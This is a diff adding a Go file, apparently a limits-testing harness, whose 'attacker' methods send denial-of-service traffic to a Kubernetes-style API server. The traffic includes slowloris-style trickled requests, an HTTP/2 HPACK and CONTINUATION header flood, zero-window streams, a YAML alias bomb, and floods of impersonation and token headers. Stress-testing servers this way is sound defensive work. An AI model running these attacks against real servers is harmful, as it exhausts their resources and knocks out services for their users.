@@ -1,0 +1,232 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package limits
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// longChain is a user whose certificate is sent as often as a handshake has room for.
+const longChain = "long-chain"
+
+// impersonationAtLivez asks for a right of the user that kubelet's probes are, too.
+func (a *attacker) impersonationAtLivez() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET /livez HTTP/1.1\r\nHost: x\r\nImpersonate-User: u%d\r\n\r\n", a.count.Add(1))
+	}, "")
+}
+
+// selectors are as long as a request line can be.
+func (a *attacker) selectors() error {
+	selector := strings.Repeat("a,", 500_000)
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s?labelSelector=%sb%d HTTP/1.1\r\nHost: x\r\n\r\n", a.path, selector, a.count.Add(1))
+	}, "")
+}
+
+// slowBodyOfRead sends a body that nobody reads, a byte now and then, with a request whose answer is long.
+func (a *attacker) slowBodyOfRead() error {
+	return a.trickle("GET /openapi/v2 HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\n\r\n", " ")
+}
+
+// manyFields is a head that is not ended.
+var manyFields = sync.OnceValue(func() string {
+	var head strings.Builder
+	head.WriteString("GET /livez HTTP/1.1\r\nHost: x\r\n")
+	for i := range 100_000 {
+		fmt.Fprintf(&head, "%x:\n", 0xa0000+i)
+	}
+	return head.String()
+})
+
+// openHead sends a head of many fields and does not end it.
+func (a *attacker) openHead() error { return a.trickle(manyFields(), "x") }
+
+// openHeadHTTP2 names 60,000 fields of HPACK's table with a byte each, and does not end the head.
+func (a *attacker) openHeadHTTP2() error {
+	framer, out, ended, err := a.http2()
+	if err != nil {
+		return err
+	}
+	a.sent.Add(1)
+	const accept = 0x80 | 19 // accept: with no value, RFC 7541 appendix A
+	block := bytes.Repeat([]byte{accept}, 15_000)
+	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: append([]byte{0x82, 0x87, 0x84}, block...)}); err != nil {
+		return err
+	}
+	for range 3 {
+		if err := framer.WriteContinuation(1, false, block); err != nil {
+			return err
+		}
+	}
+	err = out.Flush()
+	a.wait(ended)
+	return err
+}
+
+// chain opens a connection and asks nothing.
+func (a *attacker) chain() error {
+	conn, err := a.dial("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	a.sent.Add(1)
+	_, err = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: x\r\n\r\n", a.path)
+	if err == nil {
+		_, err = conn.Read(make([]byte, 100))
+	}
+	return err
+}
+
+// get asks for the paths over HTTP/2, a stream each.
+func (a *attacker) get(framer *http2.Framer, out *bufio.Writer, paths func() string) error {
+	streams := newStreamOpener(framer)
+	for stream := uint32(1); stream < 200; stream += 2 {
+		a.sent.Add(1)
+		if err := streams.open(stream, http.MethodGet, paths()); err != nil {
+			return err
+		}
+	}
+	return out.Flush()
+}
+
+// unread takes no byte of any answer.
+func (a *attacker) unread() error {
+	framer, out, ended, err := a.http2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+	if err != nil {
+		return err
+	}
+	err = a.get(framer, out, func() string { return "/livez" })
+	a.wait(ended)
+	return err
+}
+
+// watches opens watches and keeps them.
+func (a *attacker) watches() error {
+	framer, out, ended, err := a.http2()
+	if err != nil {
+		return err
+	}
+	err = a.get(framer, out, func() string {
+		return fmt.Sprintf("%s?watch=1&fieldSelector=metadata.name%%3Dw%d", a.path, a.count.Add(1))
+	})
+	a.wait(ended)
+	return err
+}
+
+// yamlLists asks for all objects as YAML.
+func (a *attacker) yamlLists() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nAccept: application/yaml\r\n\r\n", a.path)
+	}, "")
+}
+
+// readable are paths that everybody, or everybody with credentials, may read.
+var readable = []string{"/healthz", "/readyz", "/apis", "/apis/workshop.example.com/v1", "/openapi/v3", "/version"}
+
+// aliases is a document of almost 3 MiB: a list, and an alias of its last value.
+func aliases() string { return "{" + strings.Repeat("a,", (3<<20-1<<10)/2) + "&x b: *x}" }
+
+func (a *attacker) bodies(body string) error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/yaml\r\nContent-Length: %d\r\n\r\n",
+			readable[a.count.Add(1)%int64(len(readable))], len(body))
+	}, body)
+}
+
+// aliasesProxied asks for what everybody with credentials may read of the API.
+func (a *attacker) aliasesProxied() error {
+	version, _, _ := strings.Cut(a.path, "/namespaces/")
+	body := aliases()
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/yaml\r\nContent-Length: %d\r\n\r\n", version, len(body))
+	}, body)
+}
+
+func (a *attacker) consoles() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s/w%d/console HTTP/1.1\r\nHost: x\r\n"+
+			"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AQIDBAUGBwgJCgsMDQ4PEA==\r\n"+
+			"Sec-WebSocket-Protocol: v5.channel.k8s.io\r\n\r\n", a.path, a.count.Add(1))
+	}, "")
+}
+
+func (a *attacker) names() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s/w%d HTTP/1.1\r\nHost: x\r\n\r\n", a.path, a.count.Add(1))
+	}, "")
+}
+
+func (a *attacker) impersonation() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nImpersonate-User: u%d\r\n\r\n", a.path, a.count.Add(1))
+	}, "")
+}
+
+func (a *attacker) tokens() error {
+	return a.exchange(func() string {
+		return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer t%d\r\n\r\n", a.path, a.count.Add(1))
+	}, "")
+}
+
+// hold opens a connection and sends nothing.
+func (a *attacker) hold() error {
+	conn, err := a.dial("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	a.sent.Add(1)
+	_, err = conn.Read(make([]byte, 1))
+	return err
+}
+
+// slowBody sends the head of a request and then a byte now and then.
+func (a *attacker) slowBody() error {
+	return a.trickle(fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 200000\r\n\r\n", a.path), " ")
+}
+
+// streams opens as many streams as HTTP/2 allows, sends as much of a body on each as the server takes,
+// and ends none of them. The header, if there is one, has another value each time.
+func (a *attacker) streams(header string) error {
+	framer, out, ended, err := a.http2()
+	if err != nil {
+		return err
+	}
+	streams, data := newStreamOpener(framer), make([]byte, 16<<10)
+	for stream := uint32(1); stream < 200 && a.ctx.Err() == nil; stream += 2 {
+		fields := []hpack.HeaderField{{Name: "content-type", Value: "application/json"}}
+		if header != "" {
+			fields = append(fields, hpack.HeaderField{Name: header, Value: fmt.Sprintf("Bearer u%d", a.count.Load())})
+		}
+		a.sent.Add(1)
+		if err := streams.open(stream, http.MethodPost, fmt.Sprintf("%s/w%d", a.path, a.count.Add(1)), fields...); err != nil {
+			return err
+		}
+		// 256 KiB are what the server allows for each stream.
+		for range 15 {
+			if err := framer.WriteData(stream, false, data); err != nil {
+				return err
+			}
+		}
+		if err := out.Flush(); err != nil {
+			return err
+		}
+	}
+	select {
+	case <-ended:
+	case <-a.ctx.Done():
+	case <-time.After(2 * time.Second):
+	}
+	return nil
+}
